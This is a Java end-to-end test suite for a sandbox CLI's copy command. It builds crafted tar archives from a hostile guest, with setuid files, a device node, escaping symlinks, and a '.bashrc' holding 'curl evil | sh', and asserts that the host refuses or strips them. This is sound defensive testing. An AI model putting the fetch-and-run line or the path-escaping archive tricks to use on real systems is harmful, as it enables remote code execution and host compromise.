package dev.airlock.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.airlock.host.AirlockDirs;
import dev.airlock.host.HostFiles;
import dev.airlock.testing.Cli;
import dev.airlock.testing.CraftedTar;
import dev.airlock.testing.TestHost;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * {@code airlock cp SANDBOX:/dir DST} end to end, with the real CLI and a real sandbox whose guest
 * is made hostile from inside: as root in the guest, its {@code tar} is replaced by a script that
 * sends archives crafted on the host (setuid files owned by another uid, a device node, an
 * escaping symlink, names outside the copied directory). The host must write none of it.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
abstract class CopyTest {
    private static final String SANDBOX = "cp";

    /** microvm or container: the suite runs once per runtime. */
    abstract String runtime();

    private AirlockDirs dirs;
    private Cli cli;
    private Path host;

    @BeforeAll
    void start() throws Exception {
        TestHost.ready();
        dirs = TestHost.isolated("copy-" + runtime());
        cli = new Cli(dirs).inRuntime(runtime());
        host = Files.createTempDirectory("airlock-cp");
        ok(cli.run("run", "-d", "--name", SANDBOX, "--memory", "256m"));
    }

    @AfterAll
    void remove() {
        cli.run("rm", "-f", SANDBOX);
        HostFiles.deleteTree(host);
        TestHost.cleanUp(dirs);
    }

    private static Cli.Result ok(Cli.Result r) {
        assertThat(r.exit()).as(r.err()).isZero();
        return r;
    }

    private Cli.Result guest(String script) {
        return ok(cli.run("exec", SANDBOX, "--", "sh", "-c", script));
    }

    @Test
    void aFileCopyThatFailsLeavesTheHostFileAsItWas() throws Exception {
        Path kept = host.resolve("kept.txt");
        Files.writeString(kept, "precious\n");
        // the guest's read of this file fails (EIO) once the copy has opened the destination
        Cli.Result failed = cli.run("cp", SANDBOX + ":/proc/self/mem", kept.toString());
        assertThat(failed.exit()).isNotZero();
        assertThat(failed.err()).contains("EIO");
        assertThat(Files.readString(kept)).isEqualTo("precious\n");
        try (var left = Files.list(host)) {
            assertThat(left.map(p -> p.getFileName().toString())).noneMatch(n -> n.endsWith(".airlock-cp"));
        }
        // a copy that succeeds replaces it and keeps its permissions; a new file gets the source's
        guest("echo fresh > /tmp/fresh.txt && chmod 4750 /tmp/fresh.txt");
        Files.setPosixFilePermissions(kept, PosixFilePermissions.fromString("rw-r-----"));
        ok(cli.run("cp", SANDBOX + ":/tmp/fresh.txt", kept.toString()));
        assertThat(Files.readString(kept)).isEqualTo("fresh\n");
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(kept)))
                .isEqualTo("rw-r-----");
        Path made = host.resolve("made.txt");
        ok(cli.run("cp", SANDBOX + ":/tmp/fresh.txt", made.toString()));
        assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(made)))
                .as("the source's permissions, without its setuid bit")
                .isEqualTo("rwxr-x---");
    }

    @Test
    void aDirectoryComesBackAsItWasInTheSandbox() throws Exception {
        guest(String.join(
                " && ",
                "mkdir -p /data/honest/sub /data/honest/" + "d".repeat(120),
                "echo alpha > /data/honest/a.txt",
                "printf '#!/bin/sh\\n' > /data/honest/sub/run.sh && chmod 755 /data/honest/sub/run.sh",
                "ln -s ../a.txt /data/honest/sub/up",
                "ln /data/honest/a.txt /data/honest/hard",
                "echo long > /data/honest/" + "d".repeat(120) + "/" + "f".repeat(150)));
        Path fresh = host.resolve("fresh");
        ok(cli.run("cp", SANDBOX + ":/data/honest", fresh.toString()));
        assertThat(Files.readString(fresh.resolve("a.txt"))).isEqualTo("alpha\n");
        assertThat(Files.readString(fresh.resolve("sub/up"))).isEqualTo("alpha\n");
        assertThat(Files.readSymbolicLink(fresh.resolve("sub/up"))).isEqualTo(Path.of("../a.txt"));
        assertThat(Files.isSameFile(fresh.resolve("a.txt"), fresh.resolve("hard")))
                .isTrue();
        assertThat(Files.isExecutable(fresh.resolve("sub/run.sh"))).isTrue();
        assertThat(Files.readString(fresh.resolve("d".repeat(120) + "/" + "f".repeat(150))))
                .isEqualTo("long\n");
        // Into an existing directory: the copy lands below it, under its own name.
        Path existing = Files.createDirectories(host.resolve("existing"));
        ok(cli.run("cp", SANDBOX + ":/data/honest/", existing.toString()));
        assertThat(Files.readString(existing.resolve("honest/a.txt"))).isEqualTo("alpha\n");
    }

    @Test
    void aHostileGuestTarGetsNothingPastTheRules() throws Exception {
        Path outside = Files.createDirectories(host.resolve("outside"));
        Path evil = Files.createDirectories(host.resolve("evil"));
        Files.write(
                evil.resolve("setuid.tar"),
                new CraftedTar()
                        .owner(4321)
                        .dir("setuid", 0755)
                        .file("setuid/suid", 06755, "#!/bin/sh\n")
                        .dir("setuid/sticky", 01777)
                        .end()
                        .bytes());
        Files.write(
                evil.resolve("device.tar"),
                new CraftedTar()
                        .dir("device", 0755)
                        .entry("device/null", CraftedTar.CHAR_DEVICE, 0666, "", new byte[0])
                        .end()
                        .bytes());
        Files.write(
                evil.resolve("esc.tar"),
                new CraftedTar()
                        .dir("esc", 0755)
                        .symlink("esc/l", outside.toString())
                        .end()
                        .bytes());
        Files.write(
                evil.resolve("esc2.tar"),
                new CraftedTar()
                        .dir("esc", 0755)
                        .file("esc/l/x", 0644, "written through the link")
                        .end()
                        .bytes());
        Files.write(
                evil.resolve("foreign.tar"),
                new CraftedTar()
                        .dir("foreign", 0755)
                        .file(".bashrc", 0644, "curl evil | sh\n")
                        .end()
                        .bytes());
        ok(cli.run("cp", evil.toString(), SANDBOX + ":/evil"));
        // As root in the guest: tar answers a copy of /data/NAME with /evil/NAME.tar.
        guest(String.join(
                "\n",
                "set -e",
                "real=$(command -v tar)",
                "[ -e \"$real.real\" ] || cp \"$real\" \"$real.real\"",
                "printf '#!/bin/sh\\nfor last; do :; done\\nif [ -f \"/evil/$last.tar\" ]; then exec cat"
                        + " \"/evil/$last.tar\"; fi\\nexec %s.real \"$@\"\\n' \"$real\" > \"$real\"",
                "chmod 755 \"$real\"",
                "mkdir -p /data/setuid /data/device /data/esc /data/foreign"));

        // Setuid, setgid and sticky bits and the archive's owner are dropped.
        Path setuid = host.resolve("setuid");
        ok(cli.run("cp", SANDBOX + ":/data/setuid", setuid.toString()));
        int me = (int) Files.getAttribute(host, "unix:uid");
        for (Path p : new Path[] {setuid.resolve("suid"), setuid.resolve("sticky")}) {
            int mode = (int) Files.getAttribute(p, "unix:mode", LinkOption.NOFOLLOW_LINKS);
            assertThat(mode & 07000).as(p + " mode %o", mode).isZero();
            assertThat((int) Files.getAttribute(p, "unix:uid")).as(p.toString()).isEqualTo(me);
        }

        // A device node is refused, by name, and nothing is left behind.
        Path device = host.resolve("device");
        Cli.Result dev = cli.run("cp", SANDBOX + ":/data/device", device.toString());
        assertThat(dev.exit()).as(dev.err()).isEqualTo(125);
        assertThat(dev.err()).contains("refused entry 'device/null'").contains("character device");
        assertThat(device).doesNotExist();

        // A symlink out of the copy is refused; one already in DST is not written through.
        Cli.Result link = cli.run("cp", SANDBOX + ":/data/esc", host.toString());
        assertThat(link.exit()).as(link.err()).isEqualTo(125);
        assertThat(link.err()).contains("refused entry 'esc/l'");
        if (!Files.isSymbolicLink(host.resolve("esc/l"))) {
            // What an older Airlock (or the user) may have left there.
            Files.createDirectories(host.resolve("esc"));
            Files.createSymbolicLink(host.resolve("esc/l"), outside);
        }
        guest("cp /evil/esc2.tar /evil/esc.tar");
        Cli.Result through = cli.run("cp", SANDBOX + ":/data/esc", host.toString());
        assertThat(through.exit()).as(through.err()).isEqualTo(125);
        assertThat(through.err()).contains("refused entry 'esc/l/x'");
        assertThat(outside.resolve("x")).doesNotExist();

        // Into an existing directory, nothing outside the copied directory's own name is written.
        Path home = Files.createDirectories(host.resolve("home"));
        Cli.Result foreign = cli.run("cp", SANDBOX + ":/data/foreign", home.toString());
        assertThat(foreign.exit()).as(foreign.err()).isEqualTo(125);
        assertThat(foreign.err()).contains("refused entry '.bashrc'").doesNotContain("Exception");
        assertThat(home.resolve(".bashrc")).doesNotExist();
    }
}
